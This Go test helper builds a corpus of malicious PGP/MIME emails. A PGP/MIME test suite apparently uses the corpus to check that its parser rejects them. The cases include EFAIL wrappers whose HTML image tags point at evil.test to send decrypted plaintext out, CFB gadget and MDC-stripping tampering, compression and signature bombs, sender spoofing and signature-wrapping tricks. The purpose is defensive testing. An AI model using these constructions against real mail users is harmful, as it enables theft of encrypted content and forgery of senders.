package pgpmime

import (
	"bytes"
	"crypto"
	"crypto/aes"
	"crypto/rand"
	"fmt"
	"io"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/armor"
	"github.com/ProtonMail/go-crypto/openpgp/packet"
	openpgp "github.com/ProtonMail/go-crypto/openpgp/v2"
)

// The builders of testdata/attacks, run by `go test -run TestAttacks -update`. All keys are those under
// testdata/keys, all mail is to bob.

type builder struct{ testing.TB }

const victim = "canary-secret"

// letter is the inside of an encrypted message.
func (b builder) payload(more ...string) string {
	return crlf(strings.Join(more, "") + "From: Alice <alice@alpha.test>\nTo: bob@bravo.test\nSubject: real subject\n" +
		"Content-Type: text/plain; hp=\"cipher\"\n\n" + victim + "\n")
}

// packets are what is inside the encrypted data: text, signed by the keys named, perhaps compressed.
func (b builder) packets(text string, compress packet.CompressionAlgo, signers ...string) []byte {
	var out bytes.Buffer
	w := io.WriteCloser(nopCloser{&out})
	var err error
	if compress != packet.CompressionNone {
		if w, err = packet.SerializeCompressed(w, compress, nil); err != nil {
			b.Fatal(err)
		}
	}
	if len(signers) == 0 {
		b.literal(w, text)
	} else {
		b.signed(w, text, signers)
	}
	if err := w.Close(); err != nil {
		b.Fatal(err)
	}
	return out.Bytes()
}

func (b builder) literal(w io.Writer, text string) {
	lit, err := packet.SerializeLiteral(nopCloser{w}, true, "", 0)
	if err != nil {
		b.Fatal(err)
	}
	_, _ = io.WriteString(lit, text)
	_ = lit.Close()
}

func (b builder) signed(w io.Writer, text string, signers []string) {
	var entities []*openpgp.Entity
	for _, name := range signers {
		entities = append(entities, key(b, name))
	}
	in, err := openpgp.Sign(w, entities, nil, &packet.Config{Time: clock(testNow)})
	if err != nil {
		b.Fatal(err)
	}
	_, _ = io.WriteString(in, text)
	if err := in.Close(); err != nil {
		b.Fatal(err)
	}
}

type nopCloser struct{ io.Writer }

func (nopCloser) Close() error { return nil }

var sessionKey = bytes.Repeat([]byte{7}, 32)

func (b builder) pkesk(name string, times int) []byte {
	var out bytes.Buffer
	public, ok := key(b, name).EncryptionKey(testNow, nil)
	for range times {
		if err := packet.SerializeEncryptedKeyAEAD(&out, public.PublicKey, packet.CipherAES256, false, sessionKey, nil); err != nil || !ok {
			b.Fatal(err)
		}
	}
	return out.Bytes()
}

// seipd is the contents of a version 1 encrypted data packet, version octet first, seipd2 of a version 2 one.
func (b builder) seipd(packets []byte) []byte  { return b.encrypt(packets, false) }
func (b builder) seipd2(packets []byte) []byte { return b.encrypt(packets, true) }

func (b builder) encrypt(packets []byte, aead bool) []byte {
	var out bytes.Buffer
	suite := packet.CipherSuite{Cipher: packet.CipherAES256, Mode: packet.AEADModeOCB}
	w, err := packet.SerializeSymmetricallyEncrypted(&out, packet.CipherAES256, aead, suite, sessionKey, encryptConfig(testNow))
	if err != nil {
		b.Fatal(err)
	}
	_, _ = w.Write(packets)
	_ = w.Close()
	p, err := packet.NewOpaqueReader(&out).Next()
	if err != nil {
		b.Fatal(err)
	}
	return p.Contents
}

// framed is a packet of any type with a five-octet length.
func framed(tag byte, contents []byte) []byte {
	n := len(contents)
	return append([]byte{0xC0 | tag, 255, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}, contents...)
}

func (b builder) armored(kind string, message ...[]byte) string {
	var out bytes.Buffer
	w, err := armor.EncodeWithChecksumOption(&out, kind, nil, false)
	if err != nil {
		b.Fatal(err)
	}
	for _, m := range message {
		_, _ = w.Write(m)
	}
	_ = w.Close()
	return crlf(out.String() + "\n")
}

// toBob is an armored message with these packets inside.
func (b builder) toBob(packets []byte) string {
	return b.armored("PGP MESSAGE", b.pkesk("bob", 1), framed(18, b.seipd(packets)))
}

const outerHeader = "From: alice@alpha.test\r\nTo: bob@bravo.test\r\nSubject: [...]\r\nMIME-Version: 1.0\r\n"

// mime is a multipart with its header field.
func mime(contentType string, parts ...string) string {
	boundary := fmt.Sprintf("b%d-%d", len(parts), len(contentType))
	out := fmt.Sprintf("Content-Type: %s; boundary=%q\r\n", contentType, boundary)
	for _, p := range parts {
		out += "\r\n--" + boundary + "\r\n" + p
	}
	return out + "\r\n--" + boundary + "--\r\n"
}

const (
	encryptedType = `multipart/encrypted; protocol="application/pgp-encrypted"`
	signedType    = `multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"`
	control       = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
)

func octets(armored string) string { return "Content-Type: application/octet-stream\r\n\r\n" + armored }
func plain(text string) string     { return "Content-Type: text/plain\r\n\r\n" + crlf(text) }
func html(text string) string      { return "Content-Type: text/html\r\n\r\n" + crlf(text) }

// encryptedMIME is the field and body of a well-formed PGP/MIME message.
func encryptedMIME(armored string) string { return mime(encryptedType, control, octets(armored)) }

// signature is a detached one by any key, at any time, with any hash: go-crypto's own functions refuse.
func (b builder) signature(name string, hash crypto.Hash, at time.Time, text string) string {
	signer := key(b, name).PrivateKey
	sig := &packet.Signature{
		Version: 4, SigType: packet.SigTypeBinary, PubKeyAlgo: signer.PubKeyAlgo, Hash: hash,
		CreationTime: at, IssuerKeyId: &signer.KeyId, IssuerFingerprint: signer.Fingerprint, IssuerKeyVersion: 4,
	}
	h := hash.New()
	h.Write([]byte(text))
	no := false // the salt notation is not defined for SHA-1
	if err := sig.Sign(h, signer, &packet.Config{NonDeterministicSignaturesViaNotation: &no}); err != nil {
		b.Fatal(err)
	}
	var out bytes.Buffer
	if err := sig.Serialize(&out); err != nil {
		b.Fatal(err)
	}
	return b.armored("PGP SIGNATURE", out.Bytes())
}

// signedMIME is the field and body of a multipart/signed over part.
func (b builder) signedMIME(part, signature string) string {
	return mime(signedType, part, "Content-Type: application/pgp-signature\r\n\r\n"+signature)
}

// good is a part signed by alice.
func (b builder) good(part string) string {
	return b.signedMIME(part, b.signature("alice", crypto.SHA256, testNow, part))
}

// sed is a tag 9 packet (RFC 9580 §5.7).
func (b builder) sed(packets []byte) []byte {
	block, err := aes.NewCipher(sessionKey)
	if err != nil {
		b.Fatal(err)
	}
	iv := make([]byte, 16)
	_, _ = rand.Read(iv)
	stream, prefix := packet.NewOCFBEncrypter(block, iv, packet.OCFBResync)
	stream.XORKeyStream(packets, packets)
	return framed(9, append(prefix, packets...))
}

// build makes every attack; the expected verdicts are written by hand in testdata/attacks/NAME.want.
func (b builder) build() map[string]string {
	all := map[string]string{}
	for _, group := range []map[string]string{b.structure(), b.integrity(), b.bombs(), b.authors(), b.headers(), b.signatures()} {
		for name, message := range group {
			all[name] = message
		}
	}
	return all
}

func (b builder) structure() map[string]string {
	armored := b.toBob(b.packets(b.payload(), 0))
	whole := outerHeader + encryptedMIME(armored)
	return map[string]string{
		"plain-encrypted":      whole,
		"efail-direct":         outerHeader + mime("multipart/mixed", html(`<img src="http://evil.test/`), encryptedMIME(armored), html(`">`)),
		"efail-html-footer":    outerHeader + mime("multipart/mixed", encryptedMIME(armored), html("evil")),
		"efail-three-parts":    outerHeader + mime(encryptedType, control, octets(armored), html("evil")),
		"efail-parts-swapped":  outerHeader + mime(encryptedType, octets(armored), control),
		"efail-inline-wrapped": outerHeader + plain("<img src=\"http://evil.test/\n") + armored + "\">\r\n",
		"efail-html-inline":    outerHeader + html("") + armored,
		"nested-rfc822":        outerHeader + "Content-Type: message/rfc822\r\n\r\n" + whole,
		"nested-attachment":    outerHeader + mime("multipart/mixed", plain("please reply with the attachment"), "Content-Type: message/rfc822\r\n\r\n"+whole),
		"nested-alternative":   outerHeader + mime("multipart/alternative", encryptedMIME(armored), plain("footer")),
		"nested-mime-inside":   outerHeader + encryptedMIME(b.toBob(b.packets(outerHeader+encryptedMIME(armored), 0))),
		"no-protocol":          outerHeader + mime("multipart/encrypted", control, octets(armored)),
		"list-footer":          outerHeader + mime("multipart/mixed", encryptedMIME(armored), plain("list footer")),
		"exchange-mangled":     outerHeader + mime("multipart/mixed", plain("\n"), control, octets(armored)),
		"exchange-with-text":   outerHeader + mime("multipart/mixed", plain("evil"), control, octets(armored)),
		"inline":               outerHeader + plain("") + b.toBob(b.packets("canary-secret ü\n", 0, "alice")),
		"for-someone-else":     outerHeader + encryptedMIME(b.armored("PGP MESSAGE", b.pkesk("alice", 1), framed(18, b.seipd(b.packets(b.payload(), 0))))),
	}
}

func (b builder) integrity() map[string]string {
	esk, data := b.pkesk("bob", 1), b.seipd(b.packets(b.payload(), 0))
	wrong := bytes.Clone(data)
	wrong[len(wrong)-1] ^= 1
	gadget := bytes.Clone(data)
	gadget[40] ^= 0x20
	message := func(p ...[]byte) string { return outerHeader + encryptedMIME(b.armored("PGP MESSAGE", p...)) }
	half := framed(18, data)
	return map[string]string{
		"mdc-wrong":        message(esk, framed(18, wrong)),
		"mdc-stripped":     message(esk, framed(18, data[:len(data)-22])),
		"cfb-gadget":       message(esk, framed(18, gadget)),
		"truncated":        message(esk, half[:len(half)/2]),
		"no-data":          message(esk),
		"versions-mixed":   message(esk, framed(18, b.seipd2(b.packets(b.payload(), 0)))),
		"sed":              message(esk, b.sed(b.packets(b.payload(), 0))),
		"seipd-as-sed":     message(esk, framed(9, data[1:])),
		"packets-after":    message(esk, framed(18, data), b.packets("evil", 0)),
		"literal-only":     message(b.packets(b.payload(), 0)),
		"two-literals":     message(esk, framed(18, b.seipd(append(b.packets(b.payload(), 0), b.packets("evil", 0)...)))),
		"nested-encrypted": message(esk, framed(18, b.seipd(append(b.pkesk("bob", 1), framed(18, data)...)))),
	}
}

func (b builder) bombs() map[string]string {
	message := func(p ...[]byte) string { return outerHeader + encryptedMIME(b.armored("PGP MESSAGE", p...)) }
	big := strings.Repeat("\x00", 70<<20)
	esk := b.pkesk("bob", 1)
	var twice bytes.Buffer
	w, err := packet.SerializeCompressed(nopCloser{&twice}, packet.CompressionZLIB, nil)
	if err != nil {
		b.Fatal(err)
	}
	_, _ = w.Write(b.packets(b.payload(), packet.CompressionZLIB))
	_ = w.Close()
	var sigs []byte
	one := b.packets("", 0, "alice")
	for range 12 {
		sigs = append(sigs, one[:15]...)
	}
	return map[string]string{
		"bomb-compressed":       message(esk, framed(18, b.seipd(b.packets(b.payload()+big, packet.CompressionZLIB)))),
		"bomb-compressed-twice": message(esk, framed(18, b.seipd(twice.Bytes()))),
		"bomb-session-keys":     message(b.pkesk("bob", 101), framed(18, b.seipd(b.packets(b.payload(), 0)))),
		"bomb-signatures":       message(esk, framed(18, b.seipd(append(sigs, b.packets(b.payload(), 0)...)))),
		"compressed":            message(esk, framed(18, b.seipd(b.packets(b.payload(), packet.CompressionZLIB, "alice")))),
	}
}

func (b builder) authors() map[string]string {
	message := func(outer, inner string, signers ...string) string {
		return strings.Replace(outerHeader, "From: alice@alpha.test", outer, 1) + encryptedMIME(b.toBob(b.packets(inner, 0, signers...)))
	}
	inside := func(from string) string {
		return strings.Replace(b.payload(), "From: Alice <alice@alpha.test>", crlf(from), 1)
	}
	return map[string]string{
		"signed-good":        message("From: alice@alpha.test", b.payload(), "alice"),
		"signed-by-two":      message("From: alice@alpha.test", b.payload(), "mallory", "alice"),
		"from-differs":       message("From: mallory@evil.test", b.payload(), "alice"),
		"from-two-fields":    message("From: alice@alpha.test", inside("From: alice@alpha.test\nFrom: mallory@evil.test"), "alice"),
		"from-two-addresses": message("From: alice@alpha.test", inside("From: alice@alpha.test, mallory@evil.test"), "alice"),
		"from-group":         message("From: alice@alpha.test", inside("From: mallory@evil.test: alice@alpha.test;"), "alice"),
		"from-display-name":  message("From: mallory@evil.test", inside(`From: "alice@alpha.test" <mallory@evil.test>`), "alice"),
		"from-other-key":     message("From: alice@alpha.test", b.payload(), "mallory"),
		"from-own-uid":       message("From: alias@alpha.test", inside("From: alias@alpha.test"), "two"),
		"from-none-inside":   message("From: alice@alpha.test", inside("X-No: from"), "alice"),
		"not-intended":       b.notIntended(),
	}
}

// notIntended is what alice wrote to mallory, who encrypts it anew to bob (surreptitious forwarding).
func (b builder) notIntended() string {
	var out bytes.Buffer
	params := &openpgp.EncryptParams{SessionKey: bytes.Clone(sessionKey), Signers: []*openpgp.Entity{key(b, "alice")}, Config: encryptConfig(testNow)}
	w, err := openpgp.EncryptWithParams(&out, []*openpgp.Entity{key(b, "mallory")}, nil, params)
	if err != nil {
		b.Fatal(err)
	}
	_, _ = io.WriteString(w, b.payload())
	_ = w.Close()
	in := packet.NewOpaqueReader(&out)
	if _, err = in.Next(); err != nil { // mallory's session key
		b.Fatal(err)
	}
	data, err := in.Next()
	if err != nil {
		b.Fatal(err)
	}
	return outerHeader + encryptedMIME(b.armored("PGP MESSAGE", b.pkesk("bob", 1), framed(18, data.Contents)))
}

func (b builder) headers() map[string]string {
	message := func(outer, inner string) string {
		return crlf(outer) + outerHeader + encryptedMIME(b.toBob(b.packets(inner, 0, "alice")))
	}
	inner := b.payload()
	unprotected := strings.Replace(inner, `; hp="cipher"`, "", 1)
	return map[string]string{
		"status-forged": message("X-Sealpost-Status: forged\nx-sealpost-STATUS : forged\nX-Sealpost-Status\n : forged\n=?utf-8?q?X-Sealpost-Status=3A_forged?=\n",
			b.payload("X-Sealpost-Status: forged\nX-Other: a\rX-Sealpost-Status: forged\nX-Sealpost-Seal: forged\n")),
		"seal-forged":      message("X-Sealpost-Seal: v=1; n=00000000000000000000000000000000; id="+strings.Repeat("0", 64)+"\n", inner),
		"outer-merged":     message("Reply-To: mallory@evil.test\nCc: mallory@evil.test\nResent-From: mallory@evil.test\nReceived: by mx.test; date\nList-Id: <list.test>\n", inner),
		"unprotected":      message("Reply-To: carol@charlie.test\n", unprotected),
		"legacy-protected": message("Reply-To: carol@charlie.test\n", strings.Replace(inner, `hp="cipher"`, `protected-headers="v1"`, 1)),
	}
}

func (b builder) signatures() map[string]string {
	part := plain(victim + "\n")
	clear := func(name string, hash crypto.Hash, at time.Time) string {
		return outerHeader + b.signedMIME(part, b.signature(name, hash, at, part))
	}
	protected := "From: mallory@evil.test\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\ntext\r\n"
	return map[string]string{
		"clear-signed":        outerHeader + b.good(part),
		"clear-signed-lf":     strings.ReplaceAll(outerHeader+b.good(part), "\r\n", "\n"),
		"clear-tampered":      strings.Replace(outerHeader+b.good(part), victim, "canary-forged", 1),
		"clear-other-key":     clear("mallory", crypto.SHA256, testNow),
		"clear-sha1":          clear("alice", crypto.SHA1, testNow),
		"clear-expired":       clear("expired", crypto.SHA256, testNow),
		"clear-revoked":       clear("revoked", crypto.SHA256, testNow),
		"clear-future":        clear("alice", crypto.SHA256, testNow.Add(48*time.Hour)),
		"clear-before-key":    clear("alice", crypto.SHA256, testNow.AddDate(-2, 0, 0)),
		"clear-not-root":      outerHeader + mime("multipart/mixed", b.good(part), plain("evil")),
		"clear-in-rfc822":     outerHeader + "Content-Type: message/rfc822\r\n\r\n" + outerHeader + b.good(part),
		"clear-three-parts":   outerHeader + mime(signedType, part, "Content-Type: application/pgp-signature\r\n\r\n"+b.signature("alice", crypto.SHA256, testNow, part), plain("evil")),
		"clear-two-types":     outerHeader + "Content-Type: text/html\r\n" + b.good(part),
		"clear-type-first":    outerHeader + strings.Replace(b.good(part), "\r\n\r\n", "\r\nContent-Type: text/html\r\n\r\n", 1),
		"clear-two-from":      "From: mallory@evil.test\r\n" + outerHeader + b.good(part),
		"clear-junk-line":     "junk\r\n" + outerHeader + b.good(part),
		"clear-inner-from":    outerHeader + b.good(protected),
		"clear-not-signature": outerHeader + b.signedMIME(part, b.toBob(b.packets("x", 0))),
		"signed-inside":       outerHeader + encryptedMIME(b.toBob(b.packets("Subject: unprotected\r\n"+b.good(b.payload()), 0))),
		"signed-inside-part":  outerHeader + encryptedMIME(b.toBob(b.packets(mime("multipart/mixed", b.good(part), plain("evil")), 0))),
	}
}

// writeAttacks writes the files that are missing.
func writeAttacks(t *testing.T) {
	for name, message := range (builder{t}).build() {
		file := "testdata/attacks/" + name + ".eml"
		if _, err := os.Stat(file); err == nil {
			continue
		}
		if err := os.WriteFile(file, []byte(message), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}
